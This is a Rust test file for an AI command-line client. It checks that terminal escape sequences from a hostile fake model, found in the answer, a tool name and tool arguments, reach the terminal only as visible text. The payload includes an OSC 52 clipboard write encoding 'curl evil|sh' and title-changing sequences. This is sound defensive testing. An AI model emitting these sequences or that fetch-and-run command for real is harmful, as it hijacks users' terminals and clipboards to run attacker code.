//! Escape sequences from the model never reach a terminal outside the client: `-p` on a
//! pseudo-terminal shows the model's OSC 52 (clipboard) and OSC 0 (title), a tool name
//! and arguments on stderr, as text; to a file the answer stays byte for byte. A fake
//! OpenAI server plays the hostile model; the assertions are on the terminal's bytes.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use crate::support::bin::{Sandbox, run};
use crate::support::fake_llm::openai::{chunk, done_marker, finish, text_reply, tool};
use crate::support::fake_llm::{FakeLlm, Scripted};
use crate::support::pty::run_raw;
use serde_json::json;

/// Sets the clipboard to `curl evil|sh` and the window title, in the answer.
const HOSTILE_ANSWER: &str = "Done.\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}]0;pwned\u{7} \u{9b}2J";

/// A turn calling a tool whose name and argument carry escape sequences, then the
/// hostile answer.
fn hostile_script() -> Vec<Scripted> {
    vec![
        Scripted::sse([
            chunk(json!({"role": "assistant", "content": ""}), None),
            tool(
                Some(0),
                Some("call_1"),
                Some("x\u{1b}]0;tool-title\u{7}"),
                &json!({"path": "\u{1b}]52;c;YXJncw==\u{7}"}).to_string(),
            ),
            tool(
                Some(1),
                Some("call_2"),
                Some("read_file"),
                &json!({"path": "\u{1b}[31mred\u{1b}]0;arg-title\u{7}"}).to_string(),
            ),
            finish("tool_calls"),
            done_marker(),
        ]),
        Scripted::sse(text_reply(&[HOSTILE_ANSWER])),
    ]
}

fn configured(server: &FakeLlm) -> Sandbox {
    let sb = Sandbox::new();
    sb.write_config(&format!(
        "provider = \"fake\"\n[providers.fake]\napi = \"openai\"\nbase_url = \"{}/v1\"\n\
         model = \"m\"\n",
        server.url()
    ));
    sb
}

#[tokio::test(flavor = "multi_thread")]
async fn print_mode_on_a_terminal_shows_the_models_escape_sequences_as_text() {
    let server = FakeLlm::start(hostile_script()).await;
    let sb = configured(&server);
    let root = sb.dir.path().to_path_buf();
    let (code, bytes) = tokio::task::spawn_blocking(move || {
        let dir = |name: &str| root.join(name).display().to_string();
        let (config, ws) = (dir("config/config.toml"), dir("ws"));
        let (data, state, xdg) = (dir("data"), dir("state"), dir("config"));
        run_raw(
            &["--config", &config, "--workspace", &ws, "-p", "go"],
            &[
                ("XDG_DATA_HOME", &data),
                ("XDG_STATE_HOME", &state),
                ("XDG_CONFIG_HOME", &xdg),
            ],
            &root.join("ws"),
        )
    })
    .await
    .unwrap();
    let text = String::from_utf8_lossy(&bytes);
    assert_eq!(code, 0, "{text}");
    // Nothing the model wrote reaches the terminal as a control: no ESC, no C1 at all.
    assert!(
        !bytes.contains(&0x1b),
        "a raw ESC reached the terminal: {text:?}"
    );
    assert!(
        !text.contains('\u{9b}'),
        "a raw CSI reached the terminal: {text:?}"
    );
    assert!(
        !text.contains('\u{7}'),
        "a raw BEL reached the terminal: {text:?}"
    );
    // ... but it is all there to read.
    assert!(
        text.contains("Done.^[]52;c;Y3VybCBldmlsfHNo^G^[]0;pwned^G ^[[2J"),
        "{text:?}"
    );
    assert!(
        text.contains("x^[]0;tool-title^G"),
        "the tool name: {text:?}"
    );
    assert!(
        text.contains("^[[31mred^[]0;arg-title^G"),
        "an argument: {text:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn print_mode_into_a_file_keeps_the_answer_byte_for_byte() {
    let server = FakeLlm::start(hostile_script()).await;
    let sb = configured(&server);
    let out = sb.dir.path().join("answer.txt");
    let mut cmd = sb.command();
    cmd.args(["-p", "go"])
        .stdout(std::fs::File::create(&out).unwrap());
    let (code, _, stderr) = tokio::task::spawn_blocking(move || run(cmd)).await.unwrap();
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(
        std::fs::read_to_string(&out).unwrap(),
        format!("{HOSTILE_ANSWER}\n")
    );
    // stderr is for messages: what the tools were called with is shown, not obeyed.
    assert!(!stderr.contains('\u{1b}'), "{stderr:?}");
    assert!(stderr.contains("x^[]0;tool-title^G"), "{stderr:?}");
}
